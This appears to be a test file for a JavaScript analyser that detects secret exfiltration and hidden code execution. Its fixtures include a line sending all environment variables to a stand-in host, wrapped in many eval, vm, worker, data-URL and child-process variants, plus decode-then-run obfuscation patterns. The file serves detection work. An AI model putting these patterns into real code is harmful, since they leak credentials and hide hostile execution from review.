import assert from "node:assert/strict";
import { test } from "node:test";
import type { Reading } from "../files-gather.ts";
import { Lines } from "../files-gather.ts";
import { javascriptReading } from "./reading.ts";

const read = (source: string): Reading => javascriptReading(source, new Lines(source));
const flowing = (source: string): readonly string[] => read(source).flows.map(({ from, to }) => `${from} -> ${to}`);
const isConcealed = (source: string): boolean =>
  read(source).sightings.some(({ capability, concealed }) => capability === "network" && concealed);
const carriesOff = `fetch("https://a.example", { method: "POST", body: JSON.stringify(process.env) })`;
const quoted = JSON.stringify(carriesOff);
const packed = Buffer.from(carriesOff).toString("base64");

test("what stands in a text that is run as code is read as code", () => {
  for (const source of [
    `eval(${quoted})`,
    `new Function(${quoted})()`,
    `Function("a", ${quoted})(1)`,
    `Reflect.construct(Function, [${quoted}])()`,
    `Reflect.apply(eval, null, [${quoted}])`,
    `Object.getPrototypeOf(async function () {}).constructor(${quoted})()`,
    `require("vm").runInThisContext(${quoted})`,
    `new (require("worker_threads").Worker)(${quoted}, { eval: true })`,
    `new require("node:vm").Script(${quoted})`,
    `new process.getBuiltinModule("node:vm").Script(${quoted})`,
    `setTimeout(${quoted}, 10)`,
    `import("data:text/javascript;base64,${packed}")`,
    `import("data:text/javascript;base64," + btoa(decodeURIComponent(${JSON.stringify(encodeURIComponent(carriesOff))})))`,
    `import "data:text/javascript,${encodeURIComponent(carriesOff)}"`,
    `new Worker("data:text/javascript;base64,${packed}")`,
    `require("child_process").spawn(process.execPath, ["-e", ${quoted}])`,
    `const p = globalThis.process; require("child_process").execFile("node", ["--eval", ${quoted}])`,
    `eval(${JSON.stringify(`eval(${quoted})`)})`,
  ])
    assert.ok(flowing(source).includes("environment-whole -> network"), source);
});

test("code that is decoded before it is run is concealed, code that can be read in the file is not", () => {
  assert.equal(isConcealed(`eval(atob("${packed}"))`), true);
  assert.equal(isConcealed(`eval(${quoted})`), false);
});

test("code in texts is followed three levels deep, and no further", () => {
  const nested = (levels: number): string => (levels === 0 ? carriesOff : `eval(${JSON.stringify(nested(levels - 1))})`);
  assert.ok(flowing(nested(3)).includes("environment-whole -> network"));
  assert.ok(!flowing(nested(4)).includes("environment-whole -> network"));
});

test("a function that runs texts or commands and is handed on gets what it is handed on to", () => {
  assert.deepEqual(flowing(`fetch("https://a.example").then((r) => r.text()).then(eval)`), ["network -> dynamic-code"]);
  assert.deepEqual(flowing(`fetch("https://a.example").then((r) => r.text()).then(require("child_process").exec)`), ["network -> process"]);
});

test("what is decoded at run time and then run is told, wherever it comes from", () => {
  for (const source of [
    `function f() { /*! 7b7d */ } eval(Buffer.from(/! (\\S+)/.exec(f.toString())[1], "hex").toString())`,
    `require("fs").readFile("a.bin", (e, b) => require("zlib").brotliDecompress(b, (e, t) => (0, eval)(t.toString())))`,
    `const d = require("crypto").createDecipheriv("aes-256-cbc", k, v); module._compile(d.update(x, "hex", "utf8") + d.final("utf8"), "")`,
    `Function(list.map((c) => String.fromCharCode(c ^ 7)).join(""))()`,
  ])
    assert.ok(flowing(source).includes("encoded-text -> dynamic-code"), source);
});

test("what is decoded and not run, and what is run and not decoded, is no such flow", () => {
  for (const source of [
    `JSON.parse(Buffer.from(part, "base64").toString())`,
    `new Function("return " + names.map((name) => decodeURIComponent(name)).join())`,
    `require("child_process").execFileSync("convert", ["-"], { input: Buffer.from(image, "base64") })`,
    `if (f instanceof Object.getPrototypeOf(async function () {}).constructor) f()`,
  ])
    assert.deepEqual(flowing(source), [], source);
});
